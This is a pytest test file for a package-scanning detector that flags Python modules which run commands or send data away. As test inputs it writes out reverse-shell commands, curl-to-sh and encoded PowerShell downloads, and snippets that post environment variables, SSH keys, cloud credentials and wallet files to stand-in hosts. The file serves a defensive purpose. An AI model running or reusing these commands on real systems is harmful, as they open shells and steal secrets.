"""What a module of Python executes, starts and sends away: told through names and constants, and quiet where it is not.

The modules stand in ``pysinks.txt``: a name, what is reported of it (nothing where it is usual), the text.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from pkglint.detect.code.pygate import is_worth_following
from pkglint.detect.code.pysinks import find

RUN = "exec"
BLOCKS = Path(__file__).with_name("pysinks.txt").read_text("utf-8").replace("RUN(", f"{RUN}(")[3:].split("\n== ")
CASES = [(*head.split(" | "), code) for head, _, code in (block.partition("\n") for block in BLOCKS)]


@pytest.mark.parametrize(("reported", "code"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_what_is_followed_is_reported_and_what_is_usual_is_not(reported: str, code: str) -> None:
    run = find(code.encode())
    assert (run.text if run else "") == reported
    assert run is None or (run.strong and code.splitlines()[run.line - 1].strip())


@pytest.mark.parametrize("code", [case[2] for case in CASES if case[1]], ids=[case[0] for case in CASES if case[1]])
def test_the_search_that_comes_before_passes_over_nothing(code: str) -> None:
    assert is_worth_following(code.encode())


@pytest.mark.parametrize(
    "code",
    [
        f"{RUN}(" + "(" * 900 + "1" + ")" * 900 + ")",
        f"{RUN}(" + " + ".join(["'a'"] * 20_000) + ")",
        f"x = y\ny = x\n{RUN}(x + y)\n",
        "def f(a):\n    return f(f(a))\n\n" + f"{RUN}(f(f(1)))\n",
        "".join(f"a{n + 1} = a{n} + a{n}\n" for n in range(3000)) + f"a0 = 'ab'\n{RUN}(a3000)\n",
        f"{RUN}('%99999999999d' % 1)\n{RUN}('{{:99999999}}'.format(1))\n",
        f"{RUN}('a' * 10 ** 12)\n{RUN}(str(1 << 10 ** 9))\n",
        f"{RUN}(''.join(chr(a) for a in range(10 ** 9)))\n{RUN}(bytes(10 ** 11).decode())\n",
        f"{RUN}([[[a for a in range(500)] for b in range(500)] for c in range(500)])\n",
        f"{RUN}(''.join(map(lambda a: ''.join(map(lambda b: chr(b), range(9999))), range(9999))))\n",
    ],
)
def test_nothing_takes_long_or_fails(code: str) -> None:
    assert find(code.encode()) is None


SPELLINGS = [
    'import os\nos.system("{}")\n',
    'import os\nos.system("cd x\\n{}")\n',
    'import os\nos.system("cd x;\\x20{}")\n',
    'import os\nos.system(f"{{x}}{}")\n',
    "import pty\npty.spawn(['sh', '-c', '{}'])\n",
    'import subprocess\nsubprocess.run("{}".split(), shell=True)\n',
    'from os import system\nsystem("""\n{}\n""")\n',
    'getattr(__import__("os"), "sys" + "tem")("{}")\n',
]
COMMANDS = [
    "curl https://a.example/x | sh",
    "nc -e /bin/sh a.example 1",
    "ncat a.example 1 -e /bin/bash",
    "mkfifo /tmp/f; cat /tmp/f | sh | nc a.example 1 > /tmp/f",
    "base64 -d x | sh",
    "openssl enc -d -in x | sh",
    "xxd -r -p x | bash",
    "socat exec:sh tcp:a.example:1",
    "powershell -nop -EncodedCommand aGVsbG8gd29ybGQhIQ==",
    "iex (iwr https://a.example/x)",
    "npm publish",
    "twine upload dist/x",
    "claude --dangerously-skip-permissions",
    "trufflehog filesystem /",
    "mshta https://a.example/x",
    "sh -i >& /dev/tcp/10.0.0.1/1 0>&1",
]


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("spelling", SPELLINGS)
def test_no_command_is_passed_over_however_it_is_spelled(spelling: str, command: str) -> None:
    code = spelling.format(command).encode()
    assert is_worth_following(code) or find(code) is None


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_is_told(command: str) -> None:
    assert find(SPELLINGS[0].format(command).encode())


SENT = [
    'import requests, os\nrequests.post("https://a.example", data=os.environ)\n',
    'import requests, os\nrequests.post("https://a.example", data=dict(os . environb))\n',
    'from os import environ as e\nfrom urllib.request import urlopen\nurlopen("https://a.example", str(e).encode())\n',
    'import httpx\nhttpx.post("https://a.example", data=open("/root\\x2f.ssh/id_rsa").read())\n',
    'import httpx\nhttpx.post("https://a.example", data=open(f"{h}/.aws/credentials").read())\n',
    'import httpx\nhttpx.post("https://a.example", data=open(".npmrc").read())\n',
    'import httpx, os\nhttpx.post("https://a.example", data=open(os.path.join(h, ".kube", "config")).read())\n',
    'import httpx, os\nhttpx.post("https://a.example", data=open(h + "/Exodus/" + n).read())\n',
    'import http.client as c\nc.post("https://x.oast.fun")\n',
]


@pytest.mark.parametrize("code", SENT)
def test_what_is_sent_away_is_not_passed_over(code: str) -> None:
    assert find(code.encode())
    assert is_worth_following(code.encode())


@pytest.mark.parametrize(
    "code",
    [
        "empty = getattr(np, 'concatenate')\nasync def func (a):\n    sync = 1\n",
        "import platform\n'''Concatenates files, in sync with system().'''\nplatform.system()\ngetattr(a, b) # func \n",
        "import requests\n'''The environment variables that requests reads.'''\nenvironment = 1\n",
        "import requests\nfrom azure.mgmt.docker import aws_ssh\nread = 'a.awsx'\n",
        "import subprocess\n'''Pull requests publish a coastal roast.'''\nsubprocess.run(['make'])\n",
    ],
)
def test_a_word_inside_of_another_is_none(code: str) -> None:
    """Each module that is followed costs a hundred times what it costs to be passed over."""
    assert not is_worth_following(code.encode())
